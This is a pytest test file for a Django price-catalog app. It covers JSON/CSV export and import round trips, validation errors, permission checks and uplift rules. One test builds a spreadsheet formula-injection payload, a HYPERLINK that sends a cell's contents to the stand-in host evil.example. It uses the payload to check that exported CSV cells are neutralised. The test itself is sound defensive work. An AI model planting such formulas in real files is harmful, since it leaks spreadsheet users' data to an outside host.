"""Export and import: a catalog goes out as JSON or CSV and comes back into a draft, all or
nothing."""

from __future__ import annotations

import csv
import json
from datetime import date
from decimal import Decimal
from io import StringIO

import pytest
from django.core.exceptions import PermissionDenied

from costing.models import (
    ApiOffer,
    CloudGpuOffer,
    Provider,
)
from costing.services import (
    CatalogImmutable,
    CatalogImportError,
    catalog_export,
    catalog_export_csv,
    catalog_import,
    catalog_import_csv,
    private_catalog_create,
)


@pytest.fixture
def draft(org):
    return private_catalog_create(
        organization=org,
        name="Negotiated",
        version="1",
        currency="USD",
        effective_date=date(2026, 1, 1),
    )


def test_a_json_export_imports_into_a_draft_unchanged(loaded, draft, org):
    document = json.loads(json.dumps(catalog_export(catalog=loaded.catalog)))
    assert document["catalog"]["version"] == loaded.catalog.version
    counts = catalog_import(catalog=draft, rows=document["rows"], organization=org)
    assert counts == {
        "cloud_gpu": 84,
        "api": 108,
        "server": 11,
        "figure": 84,
        "parameter": 15,
    }
    again = catalog_export(catalog=draft)["rows"]
    assert again == document["rows"]
    # Importing the same rows again replaces them: nothing doubles.
    assert catalog_import(catalog=draft, rows=document["rows"], organization=org) == counts


def test_a_csv_export_round_trips_and_keeps_missing_prices_missing(loaded, draft, org):
    text = catalog_export_csv(catalog=loaded.catalog, kind="cloud_gpu")
    header = "currency,date,date_text,valid_from,valid_until,source_url"
    assert text.splitlines()[0].startswith(header)
    catalog_import_csv(catalog=draft, kind="cloud_gpu", text=text, organization=org)
    hetzner = CloudGpuOffer.objects.in_catalog(draft).get(instance="GEX45 (dedicated)")
    assert hetzner.on_demand_per_hour is None
    assert hetzner.provider.name == "Hetzner"
    assert CloudGpuOffer.objects.in_catalog(draft).filter(gpu__isnull=False).count() == (
        CloudGpuOffer.objects.in_catalog(loaded.catalog).filter(gpu__isnull=False).count()
    )


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_export_neutralises_formulas_and_reimports_them_unchanged(draft, org, prefix):
    """GIVEN offers whose text starts as a spreadsheet formula would WHEN exported as CSV THEN
    each such cell starts with an apostrophe (numbers untouched), and re-importing the export
    restores the text exactly."""
    payload = f'{prefix}HYPERLINK("https://evil.example/?x="&A1,"Click")'
    row = {
        "provider": f"{prefix}Local GPU rental",
        "instance": payload,
        "region": f"{prefix}eu-west-1",
        "gpu_name": "H100 SXM 80GB",
        "gpu_count": 8,
        "on_demand_per_hour": "40.00",
        "currency": "USD",
        "notes": payload,
    }
    Provider.objects.create_in(org, name=f"{prefix}Local GPU rental")
    catalog_import(catalog=draft, rows={"cloud_gpu": [row]}, organization=org)

    text = catalog_export_csv(catalog=draft, kind="cloud_gpu")
    (exported,) = csv.DictReader(StringIO(text))
    for column in ("provider", "instance", "region", "notes"):
        assert exported[column] == "'" + row[column], column
    assert Decimal(exported["on_demand_per_hour"]) == Decimal("40")

    catalog_import_csv(catalog=draft, kind="cloud_gpu", text=text, organization=org)
    offer = CloudGpuOffer.objects.in_catalog(draft).get()
    assert (offer.instance, offer.region, offer.notes) == (payload, f"{prefix}eu-west-1", payload)
    assert offer.provider.name == f"{prefix}Local GPU rental"


def test_an_import_with_errors_names_kind_row_and_field_and_writes_nothing(loaded, draft, org):
    good = {
        "provider": "AWS",
        "instance": "p5.48xlarge",
        "gpu_name": "H100 SXM 80GB",
        "gpu_count": 8,
        "on_demand_per_hour": "40.00",
        "currency": "USD",
        "notes": "Quote from our account manager, 2026-10-01",
    }
    catalog_import(catalog=draft, rows={"cloud_gpu": [good]}, organization=org)
    rows = [
        good,
        {**good, "on_demand_per_hour": "abc"},
        {**good, "spot_per_hour": "0"},
        {**good, "provider": "Nobody"},
        {**good, "colour": "red"},
    ]
    with pytest.raises(CatalogImportError) as raised:
        catalog_import(catalog=draft, rows={"cloud_gpu": rows}, organization=org)
    assert {(e.kind, e.row, e.field) for e in raised.value.errors} == {
        ("cloud_gpu", 2, "on_demand_per_hour"),
        ("cloud_gpu", 3, "spot_per_hour"),
        ("cloud_gpu", 4, "provider"),
        ("cloud_gpu", 5, "colour"),
    }
    assert CloudGpuOffer.objects.in_catalog(draft).get().on_demand_per_hour == Decimal("40")


def test_imports_are_refused_into_published_or_foreign_catalogs(loaded, draft, org, other_org):
    with pytest.raises(CatalogImmutable):
        catalog_import(catalog=loaded.catalog, rows={"server": []})
    with pytest.raises(PermissionDenied):
        catalog_import(catalog=draft, rows={"server": []}, organization=other_org)
    theirs = Provider.dangerously_unscoped.create(organization=other_org, name="Their integrator")
    row = {"system": "s", "price": "10", "price_kind": "list", "currency": "EUR", "notes": "n"}
    catalog_import(catalog=draft, rows={"server": [row]}, organization=org)
    offer = {
        "provider": theirs.name,
        "instance": "x",
        "gpu_name": "H100",
        "gpu_count": 1,
        "notes": "n",
    }
    with pytest.raises(CatalogImportError, match="unknown provider"):
        catalog_import(catalog=draft, rows={"cloud_gpu": [offer]}, organization=org)


def test_an_imported_uplift_needs_a_source_and_a_sensible_size(draft, org):
    """An uplift is a price: CSV or JSON rows carrying one without its source, or one above a
    doubling, are refused with the row and field; an empty cell stays unknown."""
    Provider.objects.create_in(org, name="Local API")
    row = {"provider": "Local API", "model_name": "m", "currency": "USD", "input_price": "1",
           "notes": "Quote", "regional_uplift_pct": "10",
           "regional_uplift_source_url": "https://example.org/eu-prices"}  # fmt: skip
    rows = [row, {**row, "regional_uplift_source_url": ""}, {**row, "regional_uplift_pct": "250"}]
    with pytest.raises(CatalogImportError) as raised:
        catalog_import(catalog=draft, rows={"api": rows}, organization=org)
    assert {(e.row, e.field) for e in raised.value.errors} == {
        (2, "regional_uplift_source_url"),
        (3, "regional_uplift_pct"),
    }
    catalog_import(catalog=draft, rows={"api": [row, {**row, "regional_uplift_pct": ""}]},
                   organization=org)  # fmt: skip
    text = catalog_export_csv(catalog=draft, kind="api")
    assert "regional_uplift_pct" in text.splitlines()[0]
    catalog_import_csv(catalog=draft, kind="api", text=text, organization=org)
    stored = ApiOffer.objects.in_catalog(draft).values_list("regional_uplift_pct", flat=True)
    assert sorted(stored, key=lambda pct: pct is None) == [Decimal("10"), None]
